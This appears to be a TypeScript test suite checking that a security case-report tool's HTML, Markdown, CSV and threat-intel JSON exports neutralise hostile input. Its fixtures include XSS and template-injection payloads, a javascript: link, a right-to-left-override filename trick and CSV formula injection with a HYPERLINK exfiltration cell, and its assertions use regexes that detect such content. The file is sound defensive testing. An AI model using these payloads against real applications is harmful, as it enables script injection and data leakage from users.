// §G hostile corpus in every string field of alerts, the incident, comments, activity and tasks: every export
// keeps it inert text.
import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import type { Alert } from '#shared/model/index';
import { fromVisibleText, hasInvisible } from './escape';
import { iocsToCsv } from './csv';
import { HOSTILE_STRINGS, hostileAlert, hostileComment, hostileCorpus, hostileIncident } from './hostile-corpus';
import { renderHtmlReport } from './html';
import { renderMarkdownReport } from './markdown';
import { caseReportModel } from './model';
import { toMispEvent } from './misp';
import { toNavigatorLayer } from './navigator';
import { toStixBundle } from './stix';
import { parseCsv, sampleCaseAlerts, sampleCaseInput } from './test-fixtures';
import { toTimelineCsv } from './timeline-csv';

const read = (name: string): unknown => JSON.parse(readFileSync(new URL(`../../../shared/samples/${name}`, import.meta.url), 'utf8'));
const real = sampleCaseAlerts(read('graph-alerts-v2-docs-example.json'), read('defender-for-cloud-alerts-api-example.json'), read('suricata-eve-honeypot-2018.json'));

const hostileInput = () => {
  const corpus = hostileCorpus();
  const alerts: Alert[] = corpus.map((p, i) => hostileAlert(real[i % real.length], p, i));
  const base = sampleCaseInput(alerts);
  const incident = hostileIncident(base.incident, corpus.join(' | ').slice(0, 5000));
  return {
    ...base,
    incident,
    analyst: HOSTILE_STRINGS[0] ?? '',
    comments: corpus.map((p, i) => hostileComment(incident.id, p, i)),
    activity: corpus.map((p, i) => ({ targetId: incident.id, at: i, by: p, action: p, field: p, from: p, to: p, detail: p })),
    tasks: corpus.map((p, i) => ({ id: `tk-${i}`, incidentId: incident.id, title: p, owner: p, status: 'open' as const, createdAt: i, source: p })),
    reasons: corpus.map((p) => ({ kind: 'sharedIndicators' as const, alertId: alerts[0]?.id ?? ('' as Alert['id']), text: p })),
    graphPng: '"><img src=x onerror=window.__xss=1>',
  };
};

const input = hostileInput();
const model = caseReportModel(input);

const decodeText = (html: string): string =>
  html
    .replace(/<[^>]*>/g, '\u0001')
    .replace(/&#(\d+);/g, (_, d: string) => String.fromCharCode(Number(d)))
    .replace(/&lt;|&gt;|&quot;|&amp;/g, (m) => ({ '&lt;': '<', '&gt;': '>', '&quot;': '"', '&amp;': '&' })[m] ?? m);

describe('HTML report with the hostile corpus', () => {
  const doc = renderHtmlReport(model);

  it('contains no script, event handler, javascript:, link, base or meta refresh', () => {
    expect(doc).not.toMatch(/<script/i);
    expect(doc).not.toMatch(/\son[a-z]+\s*=/i);
    expect(doc).not.toMatch(/javascript:/i);
    expect(doc).not.toMatch(/<a[\s>]|href\s*=/i);
    expect(doc).not.toMatch(/<base/i);
    expect(doc).not.toMatch(/http-equiv="?refresh/i);
    expect(doc).not.toMatch(/<svg|<img src=x|<iframe|<link/i);
    expect(doc).not.toContain('src=x'); // the bogus graph image was dropped, not inlined
    const metas = [...doc.matchAll(/<meta[^>]*>/g)].map((m) => m[0]);
    expect(metas.filter((m) => m.includes('http-equiv'))).toEqual([expect.stringContaining('Content-Security-Policy')]);
  });

  it('shows each payload as text (template syntax is not evaluated, RLO is visible)', () => {
    const text = decodeText(doc);
    for (const p of HOSTILE_STRINGS.filter((s) => !hasInvisible(s))) {
      expect(text).toContain(p.length > 300 ? p.slice(0, 300) : p);
    }
    expect(text).toContain('{{constructor.constructor(\'window.__xss=1\')()}}');
    expect(text).toContain('${7*7}');
    expect(text).toContain('invoice\\u{202E}fdp.exe');
    expect(text).not.toContain('\u202E');
    expect(fromVisibleText('invoice\\u{202E}fdp.exe')).toBe('invoice\u202Efdp.exe');
  });

  it('truncates 1 MB fields: the whole report stays small', () => {
    expect(doc.length).toBeLessThan(4 * 1024 * 1024);
    expect(doc).toContain('more characters]');
  });
});

/** The Markdown outside fenced code blocks (inside them everything is literal code text). */
const outsideFences = (md: string): string => {
  const out: string[] = [];
  let fence = '';
  for (const line of md.split('\n')) {
    if (fence) {
      if (line === fence) fence = '';
      continue;
    }
    const open = /^(`{3,})text$/.exec(line);
    if (open?.[1]) fence = open[1];
    else out.push(line);
  }
  expect(fence).toBe(''); // every fence closed
  return out.join('\n');
};

describe('Markdown report with the hostile corpus', () => {
  const full = renderMarkdownReport(model);
  const md = outsideFences(full);

  it('has no raw HTML, link or image syntax from data', () => {
    expect(md).not.toMatch(/(^|[^\\])(\\\\)*<[a-zA-Z!/?]/m); // every < from data is backslash-escaped
    expect(md).not.toMatch(/(^|[^\\])\]\(/m); // no ](  link/image opener
    expect(md).not.toMatch(/(^|[^\\])!\[/m);
    expect(md).not.toMatch(/(^|[^\\])<https?:/m);
    for (const line of md.split('\n')) expect(line).not.toMatch(/^(\s{0,3})(<|\[[^\]]*\]:)/); // no HTML block or link definition
  });

  it('fences comments with more backticks than they contain', () => {
    const fence = full.split('\n').find((l) => /^`{4,}text$/.test(l));
    expect(fence).toBeDefined();
    expect(full).toContain('````text\n```\n# heading\n[link](javascript:alert(1))'); // verbatim inside the longer fence
    expect(md).not.toMatch(/^ {0,3}#+ heading/m); // never a real heading outside the fence
  });
});

describe('CSV exports with the hostile corpus', () => {
  it('neutralise formula cells in the IOC and timeline CSVs', () => {
    for (const csv of [iocsToCsv(model.iocs), toTimelineCsv(model)]) {
      for (const row of parseCsv(csv)) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r\0]/);
    }
    const timeline = parseCsv(toTimelineCsv(model));
    expect(timeline.some((r) => r[0] === '\'=HYPERLINK("http://x/?"&A1,"x")')).toBe(true);
    expect(timeline.some((r) => r[0] === "'@SUM(1+1)")).toBe(true);
  });
});

describe('JSON exports with the hostile corpus', () => {
  it('STIX, MISP and Navigator serialise and parse back unchanged, patterns stay single literals', () => {
    for (const v of [toStixBundle(model), toMispEvent(model), toNavigatorLayer(model)]) {
      expect(JSON.parse(JSON.stringify(v))).toEqual(v);
    }
    const bundle = toStixBundle(model);
    for (const o of bundle.objects.filter((x) => x.type === 'indicator')) {
      expect(o.pattern).toMatch(/^\[[a-z0-9-]+:[a-zA-Z0-9_.'-]+ = '(?:[^'\\]|\\['\\])*'\]$/s);
    }
  });
});

describe('absurd times (a case file can carry any number)', () => {
  it('every export renders without throwing and leaves such times empty', () => {
    const base = sampleCaseInput(real.slice(0, 3));
    const odd = [1e20, -1e20, Number.NaN, Number.POSITIVE_INFINITY];
    const alerts = real.slice(0, 4).map((a, i) => ({ ...a, firstActivity: odd[i] ?? 0, lastActivity: odd[(i + 1) % 4] ?? 0 }));
    const m = caseReportModel({ ...base, alerts, incident: { ...base.incident, firstActivity: 1e20, lastActivity: Number.NaN }, generatedAt: 1e300, comments: [{ targetId: 'x', at: -1e300, by: 'a', text: 'b' }] });
    expect(() => [renderHtmlReport(m), renderMarkdownReport(m), iocsToCsv(m.iocs), toTimelineCsv(m), JSON.stringify(toStixBundle(m)), JSON.stringify(toMispEvent(m)), JSON.stringify(toNavigatorLayer(m))]).not.toThrow();
    expect(parseCsv(toTimelineCsv(m)).slice(1).map((r) => r[1])).toEqual(['', '', '', '']);
  });
});
